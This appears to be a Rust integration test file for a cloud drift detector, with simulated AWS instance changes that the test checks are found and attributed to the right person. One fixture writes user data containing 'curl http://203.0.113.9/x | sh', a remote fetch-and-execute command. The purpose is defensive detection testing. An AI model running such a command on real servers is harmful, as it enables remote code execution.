//! One server for each kind of change, one scan for all of them.

use std::time::Duration;

use cattleguard::testing::{CommandTarget, FakeCloud, FleetBuilder, SimActor, SimFleet};
use cattleguard::types::{InstanceId, MetadataOptions, Place};
use serde_json::json;

use crate::harness::{FINDINGS, Setup, alice, carol};

/// What one server suffers.
struct Kind {
    name: &'static str,
    /// Codes that must be found on it, all by the actor below.
    codes: &'static [&'static str],
    /// Codes that must not be found.
    never: &'static [&'static str],
    act: fn(&FakeCloud, &SimActor, &InstanceId),
}

const fn kind(name: &'static str, codes: &'static [&'static str], act: fn(&FakeCloud, &SimActor, &InstanceId)) -> Kind {
    Kind { name, codes, never: &[], act }
}

fn place(cloud: &FakeCloud, id: &InstanceId) -> Place {
    cloud.place_of(id).expect("a server")
}

fn debug_group(cloud: &FakeCloud, id: &InstanceId) -> cattleguard::types::SecurityGroupId {
    SimFleet::security_group(&place(cloud, id).region, "debug-open")
}

fn other(cloud: &FakeCloud, actor: &SimActor, id: &InstanceId, service: &str, name: &str, request: serde_json::Value) {
    cloud.other_call(actor, &place(cloud, id), service, name, request, json!({})).expect("a call");
}

/// Ways in and things that run; no state shows them.
const ACCESS: &[Kind] = &[
    kind("session", &["event-interactive-session"], |c, a, i| drop(c.start_session(a, i).unwrap())),
    kind("ssh key", &["event-ssh-key-pushed"], |c, a, i| drop(c.push_ssh_key(a, i, "root").unwrap())),
    kind("serial console", &["event-serial-console"], |c, a, i| drop(c.send_serial_console_key(a, i).unwrap())),
    kind("command", &["event-remote-command"], |c, a, i| {
        let target = CommandTarget::Instances(vec![i.clone()]);
        c.send_command(a, &place(c, i), "AWS-RunShellScript", &target).unwrap();
    }),
    kind("patch", &["event-patch-in-place"], |c, a, i| {
        let target = CommandTarget::Instances(vec![i.clone()]);
        c.send_command(a, &place(c, i), "AWS-RunPatchBaseline", &target).unwrap();
    }),
    kind("association", &["event-association-changed"], |c, a, i| {
        other(c, a, i, "ssm", "CreateAssociation", json!({"name": "AWS-RunShellScript", "instanceId": i}));
    }),
    kind("console output", &["event-console-read"], |c, a, i| {
        other(c, a, i, "ec2", "GetConsoleOutput", json!({"instanceId": i}));
    }),
    kind("image", &["event-image-created"], |c, a, i| {
        other(c, a, i, "ec2", "CreateImage", json!({"instanceId": i, "name": "copy", "noReboot": true}));
    }),
    kind("root volume", &["event-root-volume-replaced"], |c, a, i| {
        let request = json!({"CreateReplaceRootVolumeTaskRequest": {"InstanceId": i}});
        other(c, a, i, "ec2", "CreateReplaceRootVolumeTask", request);
    }),
    kind("unknown call", &["event-unmapped-mutation"], |c, a, i| {
        other(c, a, i, "ec2", "FrobnicateInstance", json!({"instanceId": i}));
    }),
    kind("stop", &["event-lifecycle"], |c, a, i| {
        c.stop(a, i).unwrap();
        c.clock().advance(Duration::from_secs(60));
        c.start(a, i).unwrap();
    }),
    kind("reboot", &["event-lifecycle"], |c, a, i| c.reboot(a, i).unwrap()),
];

/// Changes of what EC2 says of a server.
const STATE: &[Kind] = &[
    kind("user data", &["event-user-data-changed", "config-user-data"], |c, a, i| {
        c.modify_user_data(a, i, b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n").unwrap();
    }),
    kind("groups of the instance", &["event-security-groups-changed", "config-security-groups"], |c, a, i| {
        c.modify_instance_groups(a, i, &[debug_group(c, i)]).unwrap();
    }),
    kind("groups of the interface", &["event-security-groups-changed", "config-security-groups"], |c, a, i| {
        c.modify_security_groups(a, i, &[debug_group(c, i)]).unwrap();
    }),
    kind("type", &["event-instance-type-changed", "config-instance-type"], |c, a, i| {
        c.stop(a, i).unwrap();
        c.clock().advance(Duration::from_secs(60));
        c.modify_instance_type(a, i, "m7i.4xlarge").unwrap();
        c.start(a, i).unwrap();
    }),
    kind("source check", &["event-source-dest-check-changed", "config-source-dest-check"], |c, a, i| {
        c.source_dest_check(a, i, false).unwrap();
    }),
    kind("metadata", &["event-metadata-options-changed", "config-metadata-options"], |c, a, i| {
        let wanted = MetadataOptions { http_tokens: Some("optional".to_owned()), ..MetadataOptions::default() };
        c.modify_metadata_options(a, i, &wanted).unwrap();
    }),
    kind("interface", &["event-network-interface-attached", "config-network-interfaces"], |c, a, i| {
        c.attach_network_interface(a, i, &[debug_group(c, i)]).unwrap();
    }),
    kind("volume", &["event-volume-attached", "config-volumes"], |c, a, i| {
        c.attach_volume(a, i, "/dev/sdf", 100).unwrap();
    }),
    kind("profile", &["event-instance-profile-changed", "config-instance-profile"], |c, a, i| {
        c.replace_instance_profile(a, i, "administrator").unwrap();
    }),
    kind("no profile", &["event-instance-profile-changed", "config-instance-profile"], |c, a, i| {
        c.disassociate_instance_profile(a, i).unwrap();
    }),
    kind("address", &["event-address-changed"], |c, a, i| drop(c.associate_address(a, i).unwrap())),
    kind("tags", &["event-tags-changed"], |c, a, i| c.create_tags(a, i, &[("owner", "me")]).unwrap()),
];

/// Changed and put back: the state is as it should be, what was done is still told.
const REVERTED: &[Kind] = &[
    Kind {
        name: "groups and back",
        codes: &["event-security-groups-changed"],
        never: &["config-security-groups"],
        act: |c, a, i| {
            let before: Vec<_> = ["web", "base"].map(|n| SimFleet::security_group(&place(c, i).region, n)).to_vec();
            c.modify_instance_groups(a, i, &[debug_group(c, i)]).unwrap();
            c.clock().advance(Duration::from_secs(60));
            c.modify_instance_groups(a, i, &before).unwrap();
        },
    },
    Kind {
        name: "interface and back",
        codes: &["event-network-interface-attached", "event-network-interface-detached"],
        never: &["config-network-interfaces"],
        act: |c, a, i| {
            let (eni, _) = c.attach_network_interface(a, i, &[debug_group(c, i)]).unwrap();
            c.detach_network_interface(a, i, &eni).unwrap();
        },
    },
    Kind {
        name: "volume and back",
        codes: &["event-volume-attached", "event-volume-detached"],
        never: &["config-volumes"],
        act: |c, a, i| {
            let volume = c.attach_volume(a, i, "/dev/sdf", 8).unwrap();
            c.detach_volume(a, i, &volume).unwrap();
        },
    },
    Kind {
        name: "address and back",
        codes: &["event-address-changed"],
        never: &[],
        act: |c, a, i| {
            let association = c.associate_address(a, i).unwrap();
            c.disassociate_address(a, &place(c, i), &association).unwrap();
        },
    },
];

#[test]
fn every_kind_of_change_is_found_where_it_was_made_and_named_after_who_made_it() {
    let kinds: Vec<&Kind> = ACCESS.iter().chain(STATE).chain(REVERTED).collect();
    let app = Setup::new(FleetBuilder::new("web").standalone(kinds.len() + 2).packages(20)).start();
    assert!(app.scan().all_clean());
    app.minutes(30);
    for (index, kind) in kinds.iter().enumerate() {
        let actor = SimActor::role("ops-admin", &format!("person-{index}")).from_ip("198.51.100.99");
        (kind.act)(app.cloud(), &actor, &app.server(index));
        app.minutes(1);
    }
    app.settle();
    let scan = app.scan();

    for (index, kind) in kinds.iter().enumerate() {
        let (id, display) = (app.server(index), format!("person-{index}"));
        assert_eq!(scan.verdict(&id), "drifted", "{}: {:#}", kind.name, scan.instance(&id));
        for code in kind.codes {
            let finding = scan.finding(&id, code);
            let by = &finding["attribution"][0];
            assert_eq!(by["display"], display.as_str(), "{} {code}: {finding:#}", kind.name);
            assert_eq!(by["source_ip"], "198.51.100.99", "{} {code}", kind.name);
        }
        for code in kind.never {
            assert!(scan.find(&id, code).is_none(), "{}: {code} although it was put back", kind.name);
        }
        // Nobody else is blamed for anything on this server.
        for finding in scan.findings_of(id.as_str()) {
            for by in finding["attribution"].as_array().unwrap() {
                assert_eq!(by["display"], display.as_str(), "{}: {finding:#}", kind.name);
            }
        }
    }
    for untouched in [app.server(kinds.len()), app.server(kinds.len() + 1), app.fleet.reference.clone()] {
        assert_eq!(scan.verdict(&untouched), "clean", "{:#}", scan.instance(&untouched));
    }
    app.may_leave_alerts();
}

#[test]
fn a_resized_volume_and_a_changed_target_group_are_found_on_the_server_behind_them() {
    let app = Setup::new(crate::harness::small()).start();
    assert!(app.scan().all_clean());
    let (resized, moved) = (app.server(0), app.member(1));
    let volume = app.cloud().attach_volume(&carol(), &resized, "/dev/sdf", 8).unwrap();
    app.minutes(5);
    app.cloud().modify_volume(&alice(), &resized, &volume, 64).unwrap();
    let target_group = app.fleet.groups[&app.place()][0].target_group.clone();
    app.cloud().deregister_target(&alice(), &moved, &target_group).unwrap();
    app.settle();
    let scan = app.scan();
    assert_eq!(scan.code, FINDINGS);
    assert_eq!(scan.finding(&resized, "event-volume-modified")["attribution"][0]["display"], "alice@example.com");
    assert_eq!(scan.finding(&resized, "event-volume-attached")["attribution"][0]["display"], "carol");
    assert_eq!(scan.finding(&moved, "event-membership-changed")["attribution"][0]["display"], "alice@example.com");
}

#[test]
fn a_command_to_a_tag_reaches_every_server_that_carries_it_and_no_other() {
    let app = Setup::new(crate::harness::small()).start();
    let target = CommandTarget::Tag("app".to_owned(), "web".to_owned());
    app.cloud().send_command(&carol(), &app.place(), "AWS-RunShellScript", &target).unwrap();
    app.settle();
    let scan = app.scan();
    for id in app.fleet.instances() {
        assert_eq!(scan.finding(&id, "event-remote-command")["attribution"][0]["display"], "carol");
    }
    assert_eq!(scan.verdict(&app.fleet.reference), "clean");
}
